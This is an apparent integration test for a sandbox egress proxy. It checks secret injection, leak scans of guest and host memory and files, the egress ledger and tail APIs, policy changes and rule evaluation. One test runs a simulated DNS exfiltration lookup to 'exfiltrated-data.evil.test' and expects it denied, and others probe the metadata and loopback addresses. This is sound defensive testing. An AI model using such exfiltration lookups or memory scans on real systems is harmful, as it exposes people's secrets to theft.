// SPDX-License-Identifier: Apache-2.0
// Egress from a real guest to servers of the test's own: the README's example, the ledger as the API tells it.
import { execFileSync } from "node:child_process";
import { appendFileSync, closeSync, existsSync, mkdirSync, openSync, readdirSync, readFileSync, readlinkSync, readSync, rmSync, statSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { assert, done, Sandbox, until } from "../sdk/lib.mjs";
import { api, has, ledger, PATIENCE_MS, row, test, World } from "./lib-egress.mjs";

const world = await World.start();
const VALUE = "sk-live-5vTq8Zr2LmX0aYw7";
const sandbox = await Sandbox.create({
  timeout: "10m",
  allowNet: ["api.egress.test", "*.egress.test", "10.199.77.14:7000"],
  secrets: { API_KEY: { hosts: ["api.egress.test"], value: VALUE } },
});
const sh = async (script) => {
  const p = await sandbox.spawn("bash", { args: ["-c", script], stdout: "piped", stderr: "piped" });
  const out = await p.output();
  return { code: out.status.code, out: out.stdoutText, err: out.stderrText };
};

await test("the upstream receives the secret, the guest has a placeholder", async () => {
  await world.clear();
  const r = await sh(`curl -sS -m 90 -H "Authorization: Bearer $API_KEY" "https://api.egress.test/ok?q=hidden-query"; echo " $API_KEY"`);
  assert.equal(r.code, 0, r.err);
  assert.match(r.out, /^\/ok of api\.egress\.test\n nbs_[0-9a-z]{40}\n$/);
  const { requests } = await world.seen();
  assert.equal(requests.length, 1);
  assert.equal(requests[0].headers.authorization, `Bearer ${VALUE}`);
  assert.equal(requests[0].url, "/ok?q=hidden-query");
  const seen = await row(sandbox.id, { protocol: "https", name: "api.egress.test", method: "GET", path: "/ok", status: 200 });
  assert.equal(seen.secret, "API_KEY");
  assert.equal(seen.decision, "allow");
  assert.equal(seen.rule, "allow api.egress.test");
  assert.equal(seen.address, "10.199.77.10");
  assert.equal(seen.port, 443);
  assert.ok(Date.now() - Date.parse(seen.time) < 2 * PATIENCE_MS);
});

await test("the value is in no memory, environment or file of the guest", async () => {
  // The search must not hold what it looks for: a prefix, and the digest of the whole.
  const digest = Buffer.from(await crypto.subtle.digest("SHA-256", Buffer.from(VALUE))).toString("hex");
  await sandbox.fs.writeTextFile("/tmp/search.py", `
import hashlib, os, re
prefix, n, digest = bytes([c ^ 0x55 for c in ${JSON.stringify([...Buffer.from(VALUE.slice(0, 12))].map((c) => c ^ 0x55))}]), ${VALUE.length}, "${digest}"
control = bytes([c ^ 0x55 for c in ${JSON.stringify([...Buffer.from("nbs_")].map((c) => c ^ 0x55))}])
places, seen = [], 0
def look(where, data):
    global seen
    seen += data.count(control)
    at = data.find(prefix)
    while at >= 0:
        if hashlib.sha256(data[at:at + n]).hexdigest() == digest: places.append(where)
        at = data.find(prefix, at + 1)
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid(): continue
    for f in ("environ", "cmdline", "stack", "status"):
        try: look(f"/proc/{pid}/{f}", open(f"/proc/{pid}/{f}", "rb").read())
        except OSError: pass
    try: maps = open(f"/proc/{pid}/maps").read().splitlines()
    except OSError: continue
    for line in maps:
        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) (....) \\S+ \\S+ (\\d+)", line)
        if m.group(3)[0] != "r" or (m.group(4) != "0" and m.group(3)[1] != "w"): continue
        try:
            with open(f"/proc/{pid}/mem", "rb", 0) as mem:
                mem.seek(int(m.group(1), 16))
                left = int(m.group(2), 16) - int(m.group(1), 16)
                while left > 0:
                    data = mem.read(min(left, 1 << 22))
                    if not data: break
                    look(f"/proc/{pid}/mem", data); left -= len(data)
        except (OSError, ValueError, OverflowError): pass
for top in ("/home", "/etc", "/tmp", "/run", "/var", "/root"):
    for d, _, files in os.walk(top):
        for f in files:
            try:
                if os.path.isfile(os.path.join(d, f)): look(os.path.join(d, f), open(os.path.join(d, f), "rb").read(1 << 24))
            except OSError: pass
print(len(places), seen > 0, places[:5])
`);
  const r = await sh("sleep 60 & sudo python3 /tmp/search.py; kill %1");
  assert.equal(r.out, "0 True []\n", r.err);
});

const ctl = (...args) => execFileSync(`${process.env.NESTBOX_PREFIX}/sbin/nestboxctl`, ["-c", process.env.NESTBOX_CONF, ...args], { encoding: "utf8", stdio: "pipe" });
const chunk = Buffer.alloc(1 << 24), needle = Buffer.from(VALUE);
/** All of a process's memory. How many bytes, and how many pieces of it with a placeholder; throws if the value is there. */
function searchMemory(pid) {
  const mem = openSync(`/proc/${pid}/mem`, "r");
  let bytes = 0, placeholders = 0;
  try {
    for (const line of readFileSync(`/proc/${pid}/maps`, "utf8").split("\n")) {
      const m = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line);
      if (!m || line.endsWith("[vvar]") || line.endsWith("[vsyscall]")) continue;
      for (let at = BigInt(`0x${m[1]}`), end = BigInt(`0x${m[2]}`); at < end;) {
        let n = 0;
        try { n = readSync(mem, chunk, 0, Number(end - at < BigInt(chunk.length) ? end - at : BigInt(chunk.length)), at); } catch { break; }
        if (!n) break;
        const data = chunk.subarray(0, n);
        assert.equal(data.indexOf(needle), -1, `in process ${pid}, ${line}`);
        if (data.indexOf("nbs_") >= 0) placeholders++;
        bytes += n;
        at += BigInt(n);
      }
    }
  } finally {
    closeSync(mem);
  }
  return { bytes, placeholders };
}
/** Where a file has data: disks are mostly holes. */
function extents(path) {
  const { size, blocks } = statSync(path);
  if (blocks * 512 >= size) return [[0, size]];
  const seek = 'open(F, "<", $ARGV[0]) or die; my ($p, $s) = (0, -s F); while ($p < $s) { my $d = sysseek(F, $p, 3); last unless defined $d; $p = sysseek(F, $d, 4); print 0 + $d, " ", 0 + $p, "\\n" }';
  return execFileSync("perl", ["-e", seek, path], { encoding: "utf8" }).split("\n").filter(Boolean).map((l) => l.split(" ").map(Number));
}
/** What fn gives for a path; undefined if that is no longer there, as other machines come and go. */
function ifThere(path, fn) {
  try {
    return fn(path);
  } catch (e) {
    if (e instanceof assert.AssertionError || existsSync(path)) throw e;
  }
}
/** All files below a directory; those with a placeholder. Throws if the value is in one. */
function searchFiles(dir, found = { files: 0, placeholders: [] }) {
  for (const e of ifThere(dir, (d) => readdirSync(d, { withFileTypes: true })) ?? []) {
    const path = join(dir, e.name);
    if (e.isDirectory() && e.name !== "images") searchFiles(path, found);
    else if (e.isFile()) ifThere(path, () => searchFile(path, found));
  }
  return found;
}
function searchFile(path, found) {
  const fd = openSync(path, "r");
  let has = false;
  try {
    for (const [from, to] of extents(path))
      for (let at = from, n; at < to && (n = readSync(fd, chunk, 0, Math.min(chunk.length, to - at), at)); at += n === chunk.length ? n - 64 : n) {
        assert.equal(chunk.subarray(0, n).indexOf(needle), -1, `in ${path}`);
        has ||= chunk.subarray(0, n).indexOf("nbs_") >= 0;
      }
  } finally {
    closeSync(fd);
  }
  found.files++;
  if (has) found.placeholders.push(path);
}

await test("the value is in no process on the host but the proxy, in no file or snapshot of the host's, in no log", async () => {
  const pids = readdirSync("/proc").filter((p) => /^\d+$/.test(p));
  const machine = pids.find((pid) => {
    try {
      return /qemu|nestbox-vmm/.test(readFileSync(`/proc/${pid}/comm`, "utf8")) &&
        readdirSync(`/proc/${pid}/fd`).some((fd) => readlinkSync(`/proc/${pid}/fd/${fd}`).includes(sandbox.id));
    } catch { return false; }
  });
  assert.ok(machine, "the machine's process");
  // All of the guest's memory, kernel and page cache included, and the monitor's own.
  const { bytes, placeholders } = searchMemory(machine);
  assert.ok(bytes > 256 << 20 && placeholders > 0, `${bytes} bytes, ${placeholders} placeholders: nothing was searched`);
  // Daemons of this instance. A worker of the API and the web server have just been given the value once more, and have answered.
  const again = await api(`/api/v2/sandboxes/${sandbox.id}/egress-policy`, { method: "PATCH", body: JSON.stringify({ secrets: { API_KEY: { value: VALUE } } }) });
  assert.equal(again.status, 200, again.body);
  const daemons = ["nestboxd", "nestbox-gateway", "nestbox-runner", "nestbox-ssh", "nestbox-egress"], seen = new Set(), found_in = [];
  let workers = 0;
  const look = (pid, name) => {
    try {
      const { bytes } = searchMemory(pid);
      assert.ok(bytes > 1 << 16 || /\) [ZX] /.test(readFileSync(`/proc/${pid}/stat`, "latin1")), name);
    } catch (e) {
      if (!(e instanceof assert.AssertionError)) return; // it ended
      found_in.push(`${name}: ${e.message}`);
    }
  };
  for (const pid of pids) {
    let cmd = [];
    try { cmd = readFileSync(`/proc/${pid}/cmdline`, "latin1").split("\0"); } catch { continue; }
    const name = cmd[0].split("/").pop();
    if (![...daemons, "nestbox-api"].includes(name) || !cmd.includes(process.env.NESTBOX_CONF)) continue;
    // Who has values, or could have, leaves no core and is traced by nobody: what is not dumpable belongs to root in /proc.
    const uid = ifThere(`/proc/${pid}/maps`, (maps) => statSync(maps).uid);
    if (uid === undefined) continue; // the runner has a process for each job
    assert.equal(uid, 0, `${name} can be dumped`);
    if (name === "nestbox-api") workers++;
    else seen.add(name);
    if (name !== "nestbox-egress") look(pid, name);
  }
  assert.ok(workers >= 3, "the API's parent, workers and guide");
  assert.equal(seen.size, daemons.length, [...seen].join());
  const parent = (pid) => Number(readFileSync(`/proc/${pid}/stat`, "utf8").split(") ").pop().split(" ")[1]);
  const masters = pids.filter((p) => {
    try { return readFileSync(`/proc/${p}/cmdline`, "latin1").startsWith(`nginx: master process nginx -p`) &&
      readFileSync(`/proc/${p}/cmdline`, "latin1").includes(`${dirname(process.env.NESTBOX_CONF)}/nginx/nginx.conf`); } catch { return false; }
  }).map(Number);
  assert.equal(masters.length, 1, "the web server");
  const web = pids.filter((p) => { try { return parent(p) === masters[0]; } catch { return false; } });
  assert.ok(web.length >= 1);
  for (const pid of web) look(pid, "nginx");
  assert.deepEqual(found_in, []);
  // A capture has all of the machine's memory and its disk; neither has more than the placeholder.
  ctl("capture", sandbox.id, "sec-egress");
  const found = { files: 0, placeholders: [] };
  for (const dir of [process.env.NESTBOX_STATE, process.env.NESTBOX_LOGS]) searchFiles(dir, found);
  ctl("uncapture", "sec-egress");
  assert.ok(found.files > 10);
  assert.ok(found.placeholders.some((f) => f.includes("/captures/sec-egress/")), `the capture was not searched: ${found.placeholders.join()}`);
  for (const pid of pids) {
    let text = "";
    try { text = readFileSync(`/proc/${pid}/environ`, "latin1") + readFileSync(`/proc/${pid}/cmdline`, "latin1"); } catch { continue; }
    if (Number(pid) !== process.pid) assert.ok(!text.includes(VALUE), `process ${pid}`);
  }
  const shown = await Promise.all([`/api/v2/sandboxes/${sandbox.id}`, "/api/v2/sandboxes", `/api/v2/sandboxes/${sandbox.id}/egress`].map((p) => api(p)));
  for (const r of shown) assert.ok(r.status === 200 && !r.body.includes(VALUE));
});

await test("rows: filters, pages, lines, and no query string", async () => {
  const since = new Date().toISOString();
  await sh(`for i in 1 2 3; do curl -sS -m 90 "http://web.egress.test/page$i?token=query-secret" >/dev/null; done
    getent hosts exfiltrated-data.evil.test; curl -s -m 90 https://10.199.77.12/; python3 -c 'import socket; socket.create_connection(("10.199.77.14", 7000), 90).close()'`);
  await row(sandbox.id, { protocol: "dns", name: "exfiltrated-data.evil.test", decision: "deny", rule: "no allow rule names it" });
  await row(sandbox.id, { protocol: "tls", address: "10.199.77.12", port: 443, decision: "deny" });
  await row(sandbox.id, { address: "10.199.77.14", port: 7000, decision: "allow", rule: "allow 10.199.77.14:7000" });
  await until(async () => (await ledger(sandbox.id, "&host=web.egress.test")).length >= 3, PATIENCE_MS);
  const all = await ledger(sandbox.id);
  assert.ok(!JSON.stringify(all).includes("query-secret") && !JSON.stringify(all).includes("hidden-query"));
  for (const r of all) assert.ok(r.sandbox === sandbox.id && r.org && r.time && r.decision);
  assert.deepEqual(all.map((r) => r.time), all.map((r) => r.time).toSorted());
  const denied = await ledger(sandbox.id, "&decision=deny");
  assert.deepEqual(denied, all.filter((r) => r.decision === "deny"));
  assert.deepEqual(await ledger(sandbox.id, "&host=*.egress.test"), all.filter((r) => r.name?.endsWith(".egress.test")));
  assert.deepEqual(await ledger(sandbox.id, `&start=${since}`), all.filter((r) => r.time >= since));
  assert.deepEqual(await ledger(sandbox.id, `&end=${since}`), all.filter((r) => r.time <= since));
  // One row a page.
  const paged = [];
  for (let url = `/api/v2/sandboxes/${sandbox.id}/egress?limit=1&end=${since}`; url;) {
    const r = await api(url);
    assert.ok(r.json().egress.length <= 1);
    paged.push(...r.json().egress);
    url = /<([^>]+)>; rel="next"/.exec(r.headers.get("link") ?? "")?.[1];
  }
  assert.deepEqual(paged.reverse(), all.filter((r) => r.time <= since));
  const lines = await api(`/api/v2/egress?format=jsonl&sandbox=${sandbox.id}`);
  assert.equal(lines.headers.get("content-type"), "application/x-ndjson");
  assert.deepEqual(lines.body.trimEnd().split("\n").map((l) => JSON.parse(l)).slice(-all.length), all.toReversed());
  for (const bad of ["limit=0", "limit=1001", "start=yesterday", "decision=maybe", "format=xml", "cursor=../../x~1", "protocol=ipx"])
    assert.equal((await api(`/api/v2/sandboxes/${sandbox.id}/egress?${bad}`)).status, 400, bad);
  assert.equal((await api("/api/v2/sandboxes/sbx_ord_00000000000000000000/egress")).status, 404);
});

await test("what was reached is what learning proposes", async () => {
  const { allow_net, complete } = (await api(`/api/v2/sandboxes/${sandbox.id}/egress/learn`)).json();
  assert.deepEqual(allow_net, ["10.199.77.14:7000", "api.egress.test:443", "web.egress.test:80"]);
  assert.equal(complete, true);
});

// A second machine: a neighbour at first, then one whose policy changes, then one that gets its first secret.
const s = await Sandbox.create({ timeout: "10m", allowNet: ["web.egress.test", "raw.egress.test:7000"] });

await test("a live tail has this sandbox's rows as they are written", async () => {
  const stop = new AbortController();
  const r = await fetch(new URL(`/api/v2/sandboxes/${sandbox.id}/egress/tail`, process.env.DENO_SANDBOX_ENDPOINT),
    { headers: { authorization: `Bearer ${process.env.DENO_DEPLOY_TOKEN}` }, signal: stop.signal });
  assert.equal(r.headers.get("content-type"), "text/event-stream");
  await s.sh`curl -sS -m 90 http://web.egress.test/other`.text();
  await sh("curl -sS -m 90 http://web.egress.test/tail");
  let text = "";
  const got = (async () => {
    for await (const c of r.body) {
      text += Buffer.from(c).toString();
      if (/^data: .*"name":"web.egress.test".*\n\n/m.test(text)) return;
    }
  })();
  await got;
  stop.abort();
  const rows = [...text.matchAll(/^data: (.*)$/gm)].map((m) => JSON.parse(m[1]));
  assert.ok(rows.every((x) => x.sandbox === sandbox.id));
  assert.ok(has(rows, { name: "web.egress.test", decision: "allow" }));
  // From a time on: what came before is there, too.
  const from = await fetch(new URL(`/api/v2/egress/tail?since=${rows.at(-1).time.replace(/.{4}Z$/, "Z")}&format=jsonl`, process.env.DENO_SANDBOX_ENDPOINT),
    { headers: { authorization: `Bearer ${process.env.DENO_DEPLOY_TOKEN}` }, signal: AbortSignal.timeout(PATIENCE_MS) });
  const reader = from.body.getReader();
  const { value } = await reader.read();
  assert.ok(JSON.parse(Buffer.from(value).toString().split("\n")[0]).time >= rows.at(-1).time.slice(0, 19));
  await reader.cancel();
});

await test("a live tail goes on from file to file", async () => {
  // An organization of its own, whose files the test writes as the proxy does: a day that ends, a file that is full, one whose writer died.
  const org = `tail${Date.now()}`, dir = join(process.env.NESTBOX_STATE, "logs/egress", org), adm = `${process.env.NESTBOX_PREFIX}/sbin/nestboxadm`;
  const run = (...args) => execFileSync(adm, ["-c", process.env.NESTBOX_CONF, ...args], { encoding: "utf8", stdio: "pipe" }).trim();
  const name = (day, part) => join(dir, `2026-01-0${day}-00${part}.jsonl`);
  const rows = (day, from, n) => Array.from({ length: n }, (_, i) =>
    `{"time":"2026-01-0${day}T00:00:${String(Math.floor((from + i) / 1000)).padStart(2, "0")}.${String((from + i) % 1000).padStart(3, "0")}Z","sandbox":"sbx_ord_${i % 2}","row":${from + i}}\n`).join("");
  run("org", "create", org);
  const token = run("token", "create", "--org", org);
  mkdirSync(dir);
  writeFileSync(name(1, 0), rows(1, 0, 4000), { mode: 0o640 });
  const stop = new AbortController(), got = [[], []];
  const read = async (into, query) => {
    const r = await fetch(new URL(`/api/v2/egress/tail?${query}`, process.env.DENO_SANDBOX_ENDPOINT), { headers: { authorization: `Bearer ${token}` }, signal: stop.signal });
    assert.equal(r.status, 200);
    let text = "";
    try {
      for await (const c of r.body) {
        text += Buffer.from(c).toString();
        const lines = text.split("\n");
        text = lines.pop();
        into.push(...lines.filter((l) => l.includes("{")).map((l) => JSON.parse(l.replace(/^data: /, "")).row));
      }
      into.push("the end");
    } catch (e) { if (!stop.signal.aborted) throw e; }
  };
  const readers = [read(got[0], "since=2026-01-01T00:00:00.999Z&format=jsonl"), read(got[1], "since=2026-01-01T00:00:00.999Z")];
  const want = (n) => Array.from({ length: n - 1000 }, (_, i) => 1000 + i);
  const all = (n) => until(() => got.every((g) => g.length >= n - 1000), PATIENCE_MS);
  await all(4000);
  writeFileSync(name(2, 0), "", { mode: 0o640 });
  appendFileSync(name(1, 0), rows(1, 4000, 1000) + "\x04\n");
  appendFileSync(name(2, 0), rows(2, 5000, 500));
  await all(5500);
  writeFileSync(name(2, 1), rows(2, 6000, 500), { mode: 0o640 });
  appendFileSync(name(2, 0), rows(2, 5500, 500) + '{"time":"2026-01-02T');
  await all(6500);
  stop.abort();
  await Promise.all(readers);
  for (const g of got) assert.deepEqual(g, want(6500));
  // Who begins in a file that is not the newest is led through those after it.
  let late = "";
  const r = await fetch(new URL("/api/v2/egress/tail?since=2026-01-02T00:00:05.998Z&format=jsonl", process.env.DENO_SANDBOX_ENDPOINT),
    { headers: { authorization: `Bearer ${token}` }, signal: AbortSignal.timeout(PATIENCE_MS) });
  for await (const c of r.body) {
    late += Buffer.from(c).toString();
    if (late.split("\n").length > 501) break;
  }
  assert.deepEqual(late.trimEnd().split("\n").map((l) => JSON.parse(l).row), Array.from({ length: 501 }, (_, i) => 5999 + i));
  rmSync(dir, { recursive: true });
});

// --- the policy of a running sandbox ---
const policyOf = (id) => `/api/v2/sandboxes/${id}/egress-policy`;
const change = (id, method, body) => api(policyOf(id), { method, body: JSON.stringify(body) });

await test("a changed policy counts at once, for open connections, too", async () => {
  await s.fs.writeTextFile("/tmp/hold.py", `
import socket, sys
a = socket.create_connection(("raw.egress.test", 7000), 90)
b = socket.create_connection(("web.egress.test", 80), 90)
a.sendall(b"ping"); print(a.recv(4), flush=True)
b.sendall(b"GET /first HTTP/1.1\\r\\nHost: web.egress.test\\r\\n\\r\\n"); b.recv(10000)
try: print("a", a.recv(1) or "end", flush=True)
except OSError as e: print("a", e.strerror, flush=True)
b.settimeout(90)
b.sendall(b"GET /second HTTP/1.1\\r\\nHost: web.egress.test\\r\\n\\r\\n"); print("b", b.recv(12), flush=True)
`);
  const held = await s.spawn("python3", { args: ["/tmp/hold.py"], stdout: "piped" });
  await until(async () => (await world.seen()).requests.some((r) => r.url === "/first"), PATIENCE_MS);
  const r = await change(s.id, "PATCH", { allow_net: ["web.egress.test", "api.egress.test"] });
  assert.equal(r.status, 200, r.body);
  const { stdoutText } = await held.output();
  assert.match(stdoutText, /b'ping'\na Connection reset by peer\nb b'HTTP\/1\.1 200'/);
  await row(s.id, { name: "raw.egress.test", port: 7000, decision: "deny", reason: "the policy changed" });
  assert.equal(await s.sh`curl -sS -m 90 https://api.egress.test/now -k -o /dev/null -w "%{http_code}"`.text(), "200");
  assert.match(await s.sh`getent hosts raw.egress.test || echo none`.text(), /none/);
});

await test("a secret for a guest that had none: trusted at once, rotated without a new placeholder, taken away", async () => {
  assert.equal((await change(s.id, "PATCH", { allow_net: ["api.egress.test"] })).status, 200);
  const ask = async () => {
    await world.clear();
    const out = await s.sh`curl -sS -m 90 -H "x-key: $KEY" https://api.egress.test/k 2>&1; echo " $KEY"`.text();
    return { out, keys: (await world.seen()).requests.map((r) => r.headers["x-key"]) };
  };
  // The server's own certificate is by an authority that the guest does not know.
  assert.match((await ask()).out, /certificate|SSL/);
  const made = await change(s.id, "PATCH", { secrets: { KEY: { hosts: ["api.egress.test"], value: "first-value-1f8e" } } });
  assert.equal(made.status, 200, made.body);
  const { placeholder } = made.json().secrets.KEY;
  assert.match(placeholder, /^nbs_/);
  const one = await ask();
  assert.equal(one.out.trim(), `/k of api.egress.test\n ${placeholder}`);
  assert.deepEqual(one.keys, ["first-value-1f8e"]);
  const py = await s.sh`python3 -c "import os, urllib.request as u; print(u.urlopen(u.Request('https://api.egress.test/py', headers={'x-key': os.environ['KEY']}), timeout=90).status)"`.text();
  assert.equal(py, "200\n");
  const rotated = await change(s.id, "PATCH", { secrets: { KEY: { value: "second-value-77aa" } } });
  assert.equal(rotated.json().secrets.KEY.placeholder, placeholder);
  assert.deepEqual((await ask()).keys, ["second-value-77aa"]);
  // What is not sent stays; the value is never answered.
  const put = await change(s.id, "PUT", { allow_net: ["api.egress.test", "web.egress.test"], secrets: { KEY: { hosts: ["api.egress.test"] } } });
  assert.equal(put.status, 200, put.body);
  assert.deepEqual((await ask()).keys, ["second-value-77aa"]);
  const got = await api(policyOf(s.id));
  assert.deepEqual(got.json(), { allow_net: ["api.egress.test", "web.egress.test"], egress: null,
    secrets: { KEY: { hosts: ["api.egress.test"], placeholder } } });
  // Whoever does not know the value cannot have it sent elsewhere.
  assert.equal((await change(s.id, "PATCH", { secrets: { KEY: { hosts: ["web.egress.test"] } } })).status, 400);
  assert.equal((await change(s.id, "PATCH", { secrets: { KEY: null } })).status, 200);
  assert.notDeepEqual((await ask()).keys, ["second-value-77aa"]);
  const row1 = await row(s.id, { protocol: "https", method: "GET", path: "/k", secret: "KEY" });
  assert.equal(row1.status, 200);
});

await test("changes that are refused change nothing", async () => {
  const before = (await api(policyOf(sandbox.id))).json();
  for (const body of [{ allow_net: ["http://x"] }, { allow_net: "x" }, { secrets: { NEW: { hosts: ["x.test"] } } }, { memory_mb: 1 },
    { secrets: { "a b": { hosts: ["x.test"], value: "x" } } }, { secrets: { API_KEY: { hosts: ["api.egress.test"], value: "a\nb" } } }, []])
    for (const method of ["PUT", "PATCH"]) assert.equal((await change(sandbox.id, method, body)).status, 400, JSON.stringify(body));
  assert.deepEqual((await api(policyOf(sandbox.id))).json(), before);
  assert.equal((await change("sbx_ord_00000000000000000000", "PUT", {})).status, 404);
});

await test("evaluate decides as the proxy does", async () => {
  const ask = async (policy, host, port, more = {}) =>
    (await api("/api/v2/egress/evaluate", { method: "POST", body: JSON.stringify({ policy, host, port, ...more }) })).json();
  const policy = { allow_net: ["api.egress.test", "*.egress.test", "10.199.77.14:7000"], secrets: { API_KEY: { hosts: ["api.egress.test"] } } };
  // Every row of this sandbox, asked again.
  const seen = new Set();
  for (const r of (await ledger(sandbox.id)).filter((r) => ["allow", "deny"].includes(r.decision) && r.protocol !== "dns")) {
    const key = `${r.name ?? r.address}:${r.port}`;
    if (seen.has(key) || r.reason) continue;
    seen.add(key);
    const said = await ask(policy, r.name ?? r.address, r.port);
    assert.equal(said.decision, r.decision, key);
    assert.equal(said.rule, r.rule, key);
  }
  assert.ok(seen.size >= 4);
  assert.deepEqual(await ask({}, "example.com", 443), { decision: "allow", rule: "default public", resolves: true, intercepted: false,
    why: "allowed by name; the addresses that it resolves to are judged when it is connected to: public or permitted by the operator, and not denied" });
  assert.equal((await ask({}, "169.254.169.254", 80)).rule, "link-local address");
  assert.equal((await ask({}, "[::1]", 80)).rule, "loopback address");
  assert.equal((await ask(policy, "api.egress.test", 443)).intercepted, true);
  const rules = { allow_net: ["x.test"], egress: { rules: [{ host: "x.test", methods: ["GET"], paths: ["/v1/"] }] } };
  assert.equal((await ask(rules, "x.test", 443, { method: "GET", path: "/v1/a" })).decision, "allow");
  assert.equal((await ask(rules, "x.test", 443, { method: "POST", path: "/v1/a" })).decision, "deny");
  assert.equal((await ask(rules, "x.test", 443, { method: "GET", path: "/v2" })).decision, "deny");
  for (const [p, host, port] of [[undefined, "x.test", 1], [{}, "", 1], [{}, "x.test", 0], [{ allow_net: ["http://"] }, "x.test", 1], [{}, "a b", 1]])
    assert.ok((await ask(p, host, port)).code);
});

await Promise.all([sandbox.kill(), s.kill()]);
await world.stop();
await done();
